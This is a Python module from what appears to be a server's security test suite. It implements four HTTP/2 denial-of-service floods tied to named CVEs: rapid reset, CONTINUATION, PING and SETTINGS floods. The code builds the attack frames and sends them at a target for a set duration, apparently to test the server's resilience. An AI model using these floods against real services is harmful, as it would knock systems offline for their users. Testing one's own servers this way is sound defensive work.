"""More frames than anybody needs: rapid reset, CONTINUATION, PING, SETTINGS, WINDOW_UPDATE."""

from tests.security.attacks import frames
from tests.security.attacks.crowd import press, stream_of
from tests.security.attacks.door import Door, Tally

__all__ = ["continuation_flood", "ping_flood", "rapid_reset", "settings_flood"]

_BURST = 50
_STREAMS = 10_000


def rapid_reset(door: Door, seconds: float) -> Tally:
    """CVE-2023-44487: requests that are taken back as soon as they are made, 50 in a write."""
    request = frames.grpc_headers(door)
    asked = frames.headers(1, request, end_stream=False)
    bursts = []
    for first in range(1, _STREAMS * 2, _BURST * 2):
        burst = b"".join(
            _on_stream(asked, stream) + frames.reset(stream) for stream in range(first, first + _BURST * 2, 2)
        )
        bursts.append(burst)
    return stream_of(door, seconds, [frames.hello() + frames.settings_ack() + bursts[0], *bursts[1:]])


def continuation_flood(door: Door, seconds: float) -> Tally:
    """CVE-2024-27316 and its like: a header block that never ends."""
    opening = frames.hello() + frames.settings_ack()
    opening += frames.headers(1, frames.grpc_headers(door), end_headers=False)
    field = frames.literal(b"x-fill", b"a" * 15_800)
    return press(door, seconds, opening, frames.continuation(1, field) * 8, 8)


def ping_flood(door: Door, seconds: float) -> Tally:
    """CVE-2019-9512: PINGs whose answers nobody reads, so that they pile up in the server."""
    return press(door, seconds, frames.hello() + frames.settings_ack(), frames.ping() * 1000, 1000, read=False)


def settings_flood(door: Door, seconds: float) -> Tally:
    """CVE-2019-9515: SETTINGS whose acknowledgements nobody reads."""
    one = frames.settings({4: 65_535})
    return press(door, seconds, frames.hello() + frames.settings_ack(), one * 1000, 1000, read=False)


def _on_stream(frame: bytes, stream: int) -> bytes:
    """The same frame on another stream: bytes 5 to 8 of the frame header."""
    return frame[:5] + stream.to_bytes(4, "big") + frame[9:]
